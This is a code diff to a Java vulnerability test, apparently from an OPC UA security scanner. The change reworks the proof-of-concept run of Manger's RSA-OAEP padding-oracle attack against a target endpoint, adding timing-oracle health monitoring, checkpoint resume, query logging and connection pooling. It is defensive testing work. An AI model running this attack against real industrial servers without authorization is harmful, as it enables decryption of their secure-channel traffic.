@@ -2,17 +2,17 @@ package vulntest.manger;
 
 import attacks.CipherTextUtility;
 import attacks.manger.MangersAttack;
+import attacks.manger.MangersAttackConfiguration;
 import attacks.manger.oracle.Oracle;
 import attacks.manger.oracle.OracleException;
+import attacks.manger.oracle.OracleHealthMonitor;
+import attacks.manger.oracle.QueryRecorder;
 import attacks.manger.oracle.VictimProxy;
 import attacks.manger.oracle.learner.*;
 import opcua.context.Endpoint;
 import opcua.context.LocalKeyPair;
 import opcua.context.StaticConfig;
-import opcua.encoding.DataTypeConverter;
 import opcua.encoding.EncodingException;
-import opcua.message.OpenSecureChannelRequest;
-import opcua.model.type.SecurityTokenRequestType;
 import opcua.model.type.EndpointDescription;
 import opcua.security.MessageSecurityMode;
 import opcua.security.OAEPUtility;
@@ -21,11 +21,16 @@ import opcua.util.CommonMessageFlows;
 import opcua.util.MessageUtility;
 import reporting.entry.*;
 import reporting.Report;
-import transport.SecureChannelUtil;
 import transport.TransportException;
+import transport.netty.NettyTransport;
+import transport.nio.NioEventLoop;
+import transport.tcp.ConnectionPool;
+import vulntest.ProofOfConceptUtility;
 import vulntest.VulnerabilityTest;
 
 import java.io.IOException;
+import java.nio.file.Files;
+import java.nio.file.Path;
 import java.time.Duration;
 import java.time.LocalDateTime;
 import java.time.temporal.ChronoUnit;
@@ -39,6 +44,10 @@ public class MangerVulnerabilityTest implements VulnerabilityTest {
     private final boolean performProofOfConceptAttacks;
     private final int numberOfAttempts;
     private final List<OracleLearner> oracleLearners;
+    private MangersAttackConfiguration attackConfiguration = new MangersAttackConfiguration();
+    private Path queryLog;
+    private boolean useNetty;
+    private ProofOfConceptUtility.Flag interruptedFlag;
 
     /**
      * Constructor for a default configuration, creates a self-signed certificate
@@ -89,11 +98,48 @@ public class MangerVulnerabilityTest implements VulnerabilityTest {
         this.oracleLearners = oracleLearners;
     }
 
+    public MangersAttackConfiguration getAttackConfiguration() {
+        return attackConfiguration;
+    }
+
+    /**
+     * Sets the configuration of proof-of-concept attacks
+     * @param attackConfiguration Configuration of Manger's attack
+     */
+    public void setAttackConfiguration(MangersAttackConfiguration attackConfiguration) {
+        this.attackConfiguration = attackConfiguration;
+    }
+
+    public Path getQueryLog() {
+        return queryLog;
+    }
+
+    /**
+     * Sets a file to which all queries of proof-of-concept attacks are appended, see QueryRecorder
+     * @param queryLog The log file, or null to disable recording
+     */
+    public void setQueryLog(Path queryLog) {
+        this.queryLog = queryLog;
+    }
+
+    public boolean isUseNetty() {
+        return useNetty;
+    }
+
+    /**
+     * Sets whether the asynchronous queries of proof-of-concept attacks use the shared Netty transport instead of an
+     * NIO event loop. Attacks with oracles that use response times are not affected.
+     */
+    public void setUseNetty(boolean useNetty) {
+        this.useNetty = useNetty;
+    }
+
     private static List<OracleLearner> defaultOracleLearners(LocalKeyPair localKeyPair) {
         List<OracleLearner> oracleLearners = new ArrayList<>();
         oracleLearners.add(new ErrorCodeOracleLearner(localKeyPair, 100));
         oracleLearners.add(new SimpleErrorReasonOracleLearner(localKeyPair, 100));
         oracleLearners.add(new TimingOracleLearner(2000, 10, localKeyPair));
+        oracleLearners.add(new EnsembleOracleLearner(localKeyPair, 200));
         return oracleLearners;
     }
 
@@ -165,56 +211,65 @@ public class MangerVulnerabilityTest implements VulnerabilityTest {
         for(OracleLearner oracleLearner : oracleLearners) {
             LearningResult result = oracleLearner.learn(endpoint);
             if (performProofOfConceptAttacks && result.isSuccessful()) {
-                Group attackReport;
-                boolean successful = false;
-                int attempts = 0;
-                do {
-                    attempts++;
-                    attackReport = new Group("Proof-of-Concept Attack (Attempt " + attempts + ")");
-                    successful = proofOfConceptAttack(endpoint, result.getOracle(), attackReport);
-                } while (!successful && attempts <= numberOfAttempts);
-                result.getReport().addSubEntry(attackReport);
+                interruptedFlag = null;
+                result.getReport().addSubEntry(ProofOfConceptUtility.attack(numberOfAttempts,
+                        (attempt, attackReport) -> proofOfConceptAttack(endpoint, result.getOracle(), attackReport)));
             }
             reportingGroup.addSubEntry(result.getReport());
         }
     }
 
     private boolean proofOfConceptAttack(Endpoint endpoint, Oracle oracle, Entry report) {
+        // Background connection establishment would disturb timing measurements
+        ConnectionPool connectionPool = oracle.usesResponseTimes() ? null : new ConnectionPool(endpoint);
+        NioEventLoop eventLoop = null;
+        QueryRecorder queryRecorder = null;
         try {
-            byte[] clientNonceFlag = SecureChannelUtil.generateRandomNonce(endpoint.getSecurityPolicy());
-            OpenSecureChannelRequest opnRequest = new OpenSecureChannelRequest(
-                    StaticConfig.PROTOCOL_VERSION,
-                    SecurityTokenRequestType.ISSUE,
-                    endpoint.getMessageSecurityMode(),
-                    clientNonceFlag,
-                    StaticConfig.REQUESTED_LIFETIME
-            );
-            boolean successful = false;
-            byte[] ciphertext = MessageUtility.getSignedEncrypted(opnRequest, endpoint, localKeyPair);
-            VictimProxy victimProxy = new VictimProxy(endpoint, ciphertext);
+            // Event loop queries have less precise response times
+            if(!oracle.usesResponseTimes() && !useNetty) {
+                eventLoop = new NioEventLoop("PoC Event Loop");
+            }
+            // An attack that was interrupted by an oracle failure is continued from its checkpoint, with the same flag
+            boolean resume = interruptedFlag != null;
+            ProofOfConceptUtility.Flag flag = resume ? interruptedFlag : ProofOfConceptUtility.createFlag(endpoint, localKeyPair);
+            interruptedFlag = null;
+            VictimProxy victimProxy = ProofOfConceptUtility.createVictimProxy(endpoint, flag, connectionPool, eventLoop);
+            if(!oracle.usesResponseTimes() && useNetty) {
+                victimProxy.setNettyTransport(NettyTransport.shared());
+            }
+            if(queryLog != null) {
+                queryRecorder = new QueryRecorder(queryLog);
+                victimProxy.setQueryRecorder(queryRecorder);
+            }
             oracle.setVictimProxy(victimProxy);
-            MangersAttack attack = new MangersAttack(CipherTextUtility.extractCipherBlock(ciphertext, 0, localKeyPair.getPublicKey()), oracle, endpoint.getPublicKey());
+            // The timing distribution of the server may drift during the attack
+            OracleHealthMonitor healthMonitor = oracle.usesResponseTimes() ? new OracleHealthMonitor(oracle) : null;
+            MangersAttack attack = new MangersAttack(CipherTextUtility.extractCipherBlock(flag.getCiphertext(), 0, localKeyPair.getPublicKey()),
+                    healthMonitor != null ? healthMonitor : oracle, endpoint.getPublicKey(), attackConfiguration);
 
-            byte[] oaepEncodedPlaintext, plaintext;
             byte[] recoveredFlag = null;
+            Exception failure = null;
             try {
-                oaepEncodedPlaintext = attack.executeAttack();
-                plaintext = OAEPUtility.decode(oaepEncodedPlaintext);
-                recoveredFlag = Arrays.copyOfRange(plaintext, 57, 57 + endpoint.getSecurityPolicy().getSymmetricEncryptionNonceLength());
-                successful = Arrays.compare(clientNonceFlag, recoveredFlag) == 0;
-            } catch (OracleException | EncodingException e) {
-                report.addSubEntry(new ValueEntry<>("Success", false));
-                report.addSubEntry(new ValueEntry<>("Flag Nonce", DataTypeConverter.bytesToHexString(clientNonceFlag)));
-                report.addSubEntry(new ValueEntry<>("Recovered Nonce", DataTypeConverter.bytesToHexString(recoveredFlag)));
-                report.addSubEntry(new ValueEntry<>("Oracle Queries", oracle.getQueryCount()));
-                report.addSubEntry(new ThrowableEntry(e));
-                return false;
+                byte[] oaepEncodedPlaintext = resume ? attack.resumeAttack() : attack.executeAttack();
+                recoveredFlag = MessageUtility.extractClientNonce(OAEPUtility.decode(oaepEncodedPlaintext));
+            } catch (OracleException e) {
+                failure = e;
+                Path checkpointFile = attackConfiguration.getCheckpointFile();
+                if(checkpointFile != null && Files.exists(checkpointFile)) {
+                    interruptedFlag = flag;
+                }
+            } catch (EncodingException e) {
+                failure = e;
             }
 
-            report.addSubEntry(new ValueEntry<>("Success", successful));
-            report.addSubEntry(new ValueEntry<>("Flag Nonce", DataTypeConverter.bytesToHexString(clientNonceFlag)));
-            report.addSubEntry(new ValueEntry<>("Recovered Nonce", DataTypeConverter.bytesToHexString(recoveredFlag)));
-            report.addSubEntry(new ValueEntry<>("Oracle Queries", oracle.getQueryCount()));
+            boolean successful = ProofOfConceptUtility.reportResult(flag, recoveredFlag, oracle.getQueryCount(), report);
+            report.addSubEntry(new ValueEntry<>("Resumed from Checkpoint", resume));
+            reportWastedQueries(attack, report);
+            ProofOfConceptUtility.reportTraffic(oracle, victimProxy, report);
+            reportHealthMonitor(healthMonitor, report);
+            if(failure != null) {
+                report.addSubEntry(new ThrowableEntry(failure));
+            }
             return successful;
         }
         catch (IOException | EncodingException e) {
@@ -222,5 +277,32 @@ public class MangerVulnerabilityTest implements VulnerabilityTest {
             report.addSubEntry(new ThrowableEntry(e));
             return false;
         }
+        finally {
+            if(connectionPool != null) {
+                connectionPool.close();
+            }
+            if(eventLoop != null) {
+                eventLoop.close();
+            }
+            if(queryRecorder != null) {
+                try {
+                    queryRecorder.close();
+                } catch (IOException e) {
+                    report.addSubEntry(new ThrowableEntry(e));
+                }
+            }
+        }
+    }
+
+    private void reportWastedQueries(MangersAttack attack, Entry report) {
+        if(attackConfiguration.getSpeculationDepth() > 1) {
+            report.addSubEntry(new ValueEntry<>("Wasted Speculative Queries", attack.getWastedQueryCount()));
+        }
+    }
+
+    private static void reportHealthMonitor(OracleHealthMonitor healthMonitor, Entry report) {
+        if(healthMonitor != null) {
+            report.addSubEntry(healthMonitor.toReport());
+        }
     }
 }